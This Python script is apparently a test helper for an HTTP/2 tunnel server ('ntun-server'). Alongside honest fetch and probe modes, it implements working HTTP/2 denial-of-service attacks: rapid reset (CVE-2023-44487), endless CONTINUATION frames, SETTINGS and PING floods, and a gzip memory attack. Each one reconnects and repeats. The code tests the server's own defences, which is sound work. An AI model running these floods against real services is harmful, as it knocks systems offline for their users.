#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# A hand-made HTTP/2 client of ntun-server over mutual TLS (python3-h2 and hyperframe): an
# honest Relay/Connect fetch whose bytes are hash-checked, and the attacks a bad client with
# a valid certificate can make on the server's HTTP/2 layer. Prints one JSON line.
#
#   fetch     --dst IP:PORT --size N [--count K]   GET N netapp bytes K times; times in ms
#   probe     --dst IP:PORT --seconds S            a small fetch every 100 ms; counts ok/failed
#   tunnels   --dst IP:PORT --count K              K Connect calls on one connection to a
#                                                  netapp ECHO server, --every ms apart; after
#                                                  --seconds prints how many echo (open) and
#                                                  how the others ended, then holds --hold s
#   gzip      --streams N                          N Connect calls under grpc-encoding gzip, each
#                                                  sending most of a 4 MiB compressed message
#   reset     --pairs N                            HEADERS + RST_STREAM, N times (CVE-2023-44487)
#   continuation --frames N                        one header block that never ends
#   settings  --frames N                           empty SETTINGS frames, never reading
#   ping      --frames N                           PING frames, never reading
# Attacks hold the connection --hold seconds (or until the server closes it) and report how it
# ended: statuses per stream, GOAWAY code, or the close; all but gzip start again on a new
# connection until --duration seconds passed.
import argparse, hashlib, json, os, random, socket, ssl, struct, sys, time

import h2.config, h2.connection, h2.events, h2.exceptions, h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import netapp  # noqa: E402  (gen_hash: what the web server sends for a seed)
from fake_proxy import tls  # noqa: E402  (mutual TLS with ALPN h2 to --server:--port)

PATH = "/ntun.v1.Relay/Connect"


def new_conn():
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 4 << 20})
    conn.increment_flow_control_window(256 << 20)
    return conn


def req_headers(dst, extra=()):
    return [(":method", "POST"), (":scheme", "https"), (":authority", "ntun"), (":path", PATH),
            ("content-type", "application/grpc"), ("te", "trailers"), ("ntun-dst", dst)] + \
        list(extra)


def varint(n):
    """A protobuf varint."""
    v = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            v += bytes([b | 0x80])
        else:
            return v + bytes([b])


def chunk(data):
    """A gRPC message carrying Chunk{data}."""
    body = b"\x0a" + varint(len(data)) + data
    return b"\0" + struct.pack(">I", len(body)) + body


def listen(bind, port):
    """A listening TCP socket for a hand-made server; says "listening" on stdout."""
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((bind, port))
    ls.listen(8)
    print("listening", flush=True)
    return ls


def server_tls(certs):
    """A TLS server context with the server certificate of CERTS, peers checked against its CA,
    ALPN h2: a hand-made ntun-server."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(f"{certs}/server/cert.pem", f"{certs}/server/key.pem")
    ctx.load_verify_locations(f"{certs}/ca/cert.pem")
    ctx.verify_mode = ssl.CERT_REQUIRED
    ctx.set_alpn_protocols(["h2"])
    return ctx


class Deframer:
    """Chunk payloads out of a gRPC message stream (identity only)."""

    def __init__(self):
        self.buf = b""

    def feed(self, d):
        self.buf += d
        out = []
        while len(self.buf) >= 5:
            n = struct.unpack(">I", self.buf[1:5])[0]
            if len(self.buf) < 5 + n:
                break
            m, self.buf = self.buf[5:5 + n], self.buf[5 + n:]
            i, pay = 0, b""
            while i < len(m):
                key = m[i]
                i += 1
                ln, sh = 0, 0
                while True:
                    b = m[i]
                    i += 1
                    ln |= (b & 0x7F) << sh
                    sh += 7
                    if not b & 0x80:
                        break
                if key == 0x0A:
                    pay += m[i:i + ln]
                i += ln
            out.append(pay)
        return out


def fetch_one(a, size, seed):
    """One Relay/Connect: 'GET size seed' to the web server; returns (ok, ms, detail)."""
    t0 = time.monotonic()
    s = tls(a)
    conn = new_conn()
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, req_headers(a.dst))
    conn.send_data(sid, chunk(b"GET %d %d\n" % (size, seed)))
    s.sendall(conn.data_to_send())
    h, got, df, status, done = hashlib.sha256(), 0, Deframer(), None, False
    deadline = t0 + a.timeout
    while not done and time.monotonic() < deadline:
        d = s.recv(1 << 20)
        if not d:
            break
        for ev in conn.receive_data(d):
            if isinstance(ev, h2.events.DataReceived):
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                for p in df.feed(ev.data):
                    h.update(p)
                    got += len(p)
            elif isinstance(ev, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                for k, v in ev.headers:
                    if k == "grpc-status":
                        status = int(v)
            elif isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)):
                done = True
        s.sendall(conn.data_to_send())
    ms = (time.monotonic() - t0) * 1000
    s.close()
    ok = status == 0 and got == size and h.hexdigest() == netapp.gen_hash(size, seed)
    return ok, ms, {"status": status, "bytes": got}


def cmd_fetch(a):
    times, fails = [], []
    for i in range(a.count):
        ok, ms, det = fetch_one(a, a.size, a.seed + i)
        times.append(round(ms, 1))
        if not ok:
            fails.append(det)
    print(json.dumps({"ok": not fails, "ms": times, "failures": fails}))
    return 0 if not fails else 1


def cmd_probe(a):
    ok = bad = 0
    errs = []
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        try:
            r, _, det = fetch_one(a, 4096, 7)
        except (OSError, h2.exceptions.ProtocolError) as e:
            r, det = False, str(e)
        if r:
            ok += 1
        else:
            bad += 1
            if len(errs) < 5:
                errs.append(det)
        time.sleep(0.1)
    print(json.dumps({"ok": ok, "failed": bad, "errors": errs}))
    return 0


def cmd_tunnels(a):
    s = tls(a)
    conn = new_conn()
    s.sendall(conn.data_to_send())
    want, got, status, df = {}, {}, {}, {}
    s.settimeout(0.05)

    def settled():
        return all(got.get(sid) == want[sid] or sid in status for sid in want)

    def pump(until, early=False):
        while time.monotonic() < until and not (early and settled()):
            try:
                d = s.recv(1 << 20)
            except socket.timeout:
                continue
            if not d:
                return False
            for ev in conn.receive_data(d):
                if isinstance(ev, h2.events.DataReceived):
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    for p in df[ev.stream_id].feed(ev.data):
                        got[ev.stream_id] = got.get(ev.stream_id, b"") + p
                elif isinstance(ev, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                    for k, v in ev.headers:
                        if k == "grpc-status":
                            status[ev.stream_id] = str(v)
                elif isinstance(ev, h2.events.StreamReset):
                    status[ev.stream_id] = "rst"
            s.sendall(conn.data_to_send())
        return True

    t0 = time.monotonic()
    for i in range(a.count):
        sid = conn.get_next_available_stream_id()
        want[sid] = b"tunnel %d\n" % i
        df[sid] = Deframer()
        conn.send_headers(sid, req_headers(a.dst))
        conn.send_data(sid, chunk(b"ECHO\n" + want[sid]))
        s.sendall(conn.data_to_send())
        pump(t0 + (i + 1) * a.every / 1000)
    # Every tunnel echoed or ended, or --seconds passed: a slow machine gets the whole time.
    pump(time.monotonic() + a.seconds, early=True)
    ends = {}
    for sid in want:
        if sid in status:
            ends[status[sid]] = ends.get(status[sid], 0) + 1
    opened = sum(1 for sid in want if got.get(sid) == want[sid] and sid not in status)
    print(json.dumps({"open": opened, "ended": ends}), flush=True)
    pump(time.monotonic() + a.hold)
    s.close()
    return 0


def count(conn, ev, statuses):
    """Tallies how the server ended streams: grpc-status values, and resets."""
    if isinstance(ev, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
        for k, v in ev.headers:
            if k == "grpc-status":
                statuses[str(v)] = statuses.get(str(v), 0) + 1
    elif isinstance(ev, h2.events.StreamReset):
        statuses["rst"] = statuses.get("rst", 0) + 1
    elif isinstance(ev, h2.events.DataReceived):
        conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)


def hold(a, s, conn, statuses):
    """Reads (unless told not to) until the server closes or --hold passes; what it said."""
    goaway, closed = None, False
    end = time.monotonic() + a.hold
    s.settimeout(0.5)
    while time.monotonic() < end:
        try:
            d = s.recv(1 << 20)
        except socket.timeout:
            continue
        except (OSError, ssl.SSLError):
            closed = True
            break
        if not d:
            closed = True
            break
        if conn is None:
            continue
        try:
            evs = conn.receive_data(d)
        except h2.exceptions.ProtocolError:
            continue
        for ev in evs:
            if isinstance(ev, h2.events.ConnectionTerminated):
                goaway = ev.error_code
            count(conn, ev, statuses)
        try:
            s.sendall(conn.data_to_send())
        except OSError:
            closed = True
            break
    return {"goaway": int(goaway) if goaway is not None else None, "closed": closed}


def cmd_gzip(a):
    s = tls(a)
    conn = new_conn()
    s.sendall(conn.data_to_send())
    body = random.Random(1).randbytes(4 << 20)
    msg = b"\1" + struct.pack(">I", len(body)) + body
    statuses, sent = {}, 0
    for _ in range(a.streams):
        sid = conn.get_next_available_stream_id()
        try:
            conn.send_headers(sid, req_headers(a.dst, [("grpc-encoding", "gzip")]))
        except h2.exceptions.TooManyStreamsError:
            break
        s.sendall(conn.data_to_send())
    # Each stream sends what its window allows of the message; the server's window credits
    # decide how much of the 4 MiB it holds. The hold is extended (up to 30 s in all) until
    # --min-bytes are out: an attacker starved of CPU on a loaded machine still gets there.
    start = time.monotonic()
    end = start + a.hold
    offs = {}
    s.settimeout(0.2)
    while time.monotonic() < end or (sent < a.min_bytes and time.monotonic() < start + 30):
        progressed = False
        for sid in list(conn.streams):
            st = conn.streams.get(sid)
            if st is None or st.closed:
                continue
            o = offs.get(sid, 0)
            w = min(conn.local_flow_control_window(sid), 65536, len(msg) - o)
            if w <= 0:
                continue
            piece = msg[o:o + w]
            try:
                conn.send_data(sid, piece)
            except h2.exceptions.ProtocolError:
                continue
            offs[sid] = o + w
            sent += w
            progressed = True
        try:
            s.sendall(conn.data_to_send())
            d = s.recv(1 << 20)
            if not d:
                break
            for ev in conn.receive_data(d):
                count(conn, ev, statuses)
            s.sendall(conn.data_to_send())
        except socket.timeout:
            if not progressed:
                time.sleep(0.05)
        except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
            break
    print(json.dumps({"attack": "gzip", "streams": a.streams, "bytes_sent": sent,
                      "statuses": statuses}))
    return 0


def cmd_reset(a):
    s = tls(a)
    conn = new_conn()
    s.sendall(conn.data_to_send())
    n = 0
    try:
        # Every pair in one write: the burst reaches the server at once, however little CPU
        # the attacker gets (made and sent 20 at a time, a starved attacker stayed under the
        # server's reset rate and was never stopped).
        for i in range(a.pairs):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, req_headers(a.dst))
            conn.reset_stream(sid, 8)
            n += 1
        s.sendall(conn.data_to_send())
    except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
        pass
    r = hold(a, s, conn, {})
    print(json.dumps({"attack": "reset", "pairs_sent": n, **r}))
    return 0


def raw_conn(a):
    s = tls(a)
    conn = new_conn()
    s.sendall(conn.data_to_send())
    return s, conn


def cmd_continuation(a):
    s, conn = raw_conn(a)
    enc = conn.encoder
    block = enc.encode(req_headers(a.dst))
    f = HeadersFrame(1)
    f.data = block
    s.sendall(f.serialize())
    c = ContinuationFrame(1)
    c.data = enc.encode([("x-pad-%d" % i, "v" * 40) for i in range(20)])
    raw = c.serialize()
    n = 0
    try:
        for _ in range(a.frames // 50):
            s.sendall(raw * 50)
            n += 50
    except (OSError, ssl.SSLError):
        pass
    r = hold(a, s, None, {})
    print(json.dumps({"attack": "continuation", "frames_sent": n, **r}))
    return 0


def cmd_flood(a, frame):
    s, _ = raw_conn(a)
    raw = frame.serialize() * 100
    n = 0
    try:
        for _ in range(a.frames // 100):
            s.sendall(raw)
            n += 100
    except (OSError, ssl.SSLError):
        pass
    # never reading: the server's answers pile up on its side, or it stops us
    r = hold(a, s, None, {})
    print(json.dumps({"attack": a.cmd, "frames_sent": n, **r}))
    return 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("cmd", choices=["fetch", "probe", "tunnels", "gzip", "reset",
                                    "continuation", "settings", "ping"])
    ap.add_argument("--server", required=True)
    ap.add_argument("--port", type=int, default=8443)
    ap.add_argument("--certs", required=True)
    ap.add_argument("--who", default="client", help="the client certificate's directory")
    ap.add_argument("--dst", default="100.64.1.5:80")
    ap.add_argument("--size", type=int, default=1 << 20)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--streams", type=int, default=40)
    ap.add_argument("--pairs", type=int, default=3000)
    ap.add_argument("--frames", type=int, default=100000)
    ap.add_argument("--hold", type=float, default=5)
    ap.add_argument("--min-bytes", type=int, default=0, help="gzip: hold until this much is sent")
    ap.add_argument("--duration", type=float, default=0)
    ap.add_argument("--timeout", type=float, default=30)
    ap.add_argument("--every", type=float, default=0, help="tunnels: ms between calls")
    a = ap.parse_args()
    a.cert = f"{a.certs}/{a.who}/cert.pem"
    a.key = f"{a.certs}/{a.who}/key.pem"
    a.ca = f"{a.certs}/ca/cert.pem"
    if a.cmd == "fetch":
        return cmd_fetch(a)
    if a.cmd == "probe":
        return cmd_probe(a)
    if a.cmd == "tunnels":
        return cmd_tunnels(a)
    if a.cmd == "gzip":
        return cmd_gzip(a)
    # The other attacks end their connection quickly when the server stops them: a bad
    # client comes back on a new one until --duration passes.
    end = time.monotonic() + a.duration
    rounds = 0
    while True:
        rounds += 1
        try:
            if a.cmd == "reset":
                cmd_reset(a)
            elif a.cmd == "continuation":
                cmd_continuation(a)
            elif a.cmd == "settings":
                cmd_flood(a, SettingsFrame(0))
            else:
                f = PingFrame(0)
                f.opaque_data = b"12345678"
                cmd_flood(a, f)
        except (OSError, ssl.SSLError) as e:
            print(json.dumps({"attack": a.cmd, "error": str(e)}))
            time.sleep(0.1)
        if time.monotonic() >= end:
            break
    print(json.dumps({"attack": a.cmd, "rounds": rounds}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
